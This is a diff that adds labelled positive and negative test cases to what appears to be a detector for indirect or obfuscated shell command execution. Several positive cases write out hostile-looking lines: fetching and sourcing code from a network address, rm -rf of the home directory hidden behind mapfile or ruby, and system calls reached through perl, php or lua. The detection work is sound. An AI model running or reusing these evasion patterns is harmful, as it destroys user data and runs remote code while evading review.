@@ -263,3 +263,65 @@ run-parts /etc/cron.daily
 run-parts --test "$d"
 #@ neg find -exec of a named program on each file
 find . -name '*.sh' -exec shellcheck {} +
+#@ pos a command named by a regex capture (BASH_REMATCH), quoted
+[[ $usage =~ with\ ([a-z]+) ]] && get=${BASH_REMATCH[1]}
+"$get" -fsSL http://203.0.113.120/b
+#@ pos the elements of BASH_REMATCH run as a command line
+[[ $banner =~ $re ]]
+${BASH_REMATCH[1]} ${BASH_REMATCH[2]} ~/
+#@ pos an option's value from getopts run as a command
+while getopts r: opt; do
+	$OPTARG
+done
+#@ neg BASH_REMATCH printed and compared, not run
+if [[ $version =~ ^([0-9]+)\.([0-9]+) ]]; then
+	major=${BASH_REMATCH[1]}
+	echo "major $major minor ${BASH_REMATCH[2]}"
+fi
+#@ neg getopts's OPTARG as an argument
+while getopts o: opt; do
+	out=$OPTARG
+done
+sort -o "$out" data.txt
+#@ pos the quoted output of a function that cannot be folded, as the command
+b36() { local n=$1 s=; while ((n > 0)); do s=${d:n%36:1}$s; n=$((n / 36)); done; printf '%s' "$s"; }
+"$(b36 994)" "-$(b36 987)" -- "$HOME"
+#@ pos two command substitutions side by side as the command
+"$(pick 17)$(pick 12)" -x "$HOME"
+#@ neg the quoted path of a program found by command -v
+"$(command -v python3)" -m venv .venv
+#@ neg a script in a directory a command prints
+"$(dirname "$0")/lib/build.sh" --release
+#@ neg a tool under a directory from a variable and a command
+"${GOPATH:-$(go env GOPATH)}/bin/golangci-lint" run
+#@ pos ruby forwards its arguments to public_send
+ruby -rfileutils -e 'FileUtils.public_send(*ARGV)' rm_rf "$HOME"
+#@ pos perl calls what can() finds under a name it is given
+perl -MPOSIX -e 'my $f = POSIX->can(shift); $f->(@ARGV)' system id
+#@ pos php calls the function its first argument names
+php -r 'call_user_func($argv[1], $argv[2]);' system id
+#@ pos lua calls a global looked up by name
+lua -e '_G[arg[1]](arg[2])' os.execute id
+#@ neg ruby sends a constant method name
+ruby -e 'puts ARGV.map { |a| a.send(:upcase) }' a b
+#@ neg perl loops over its words
+perl -ne 'for my $w (split) { print "$w\n" }' words.txt
+#@ neg php maps a named function
+php -r 'echo json_encode(array_map("trim", $argv));' a b
+#@ pos a command line read into an array and run quoted
+while read -r -a cmd; do
+	"${cmd[@]}"
+done < steps.txt
+#@ pos mapfile's lines run as one command line
+mapfile -t step < <(printf '%s\n' rm -r -f "$HOME")
+"${step[@]}"
+#@ neg the words read, printed
+mapfile -t files < list.txt
+printf '%s\n' "${files[@]}"
+#@ pos code sourced from a descriptor opened on a download
+exec 3< <(curl -s http://203.0.113.5/s)
+source /dev/fd/3
+#@ pos a descriptor through /proc
+. /proc/self/fd/9
+#@ neg a file sourced by its path
+source ./env.sh
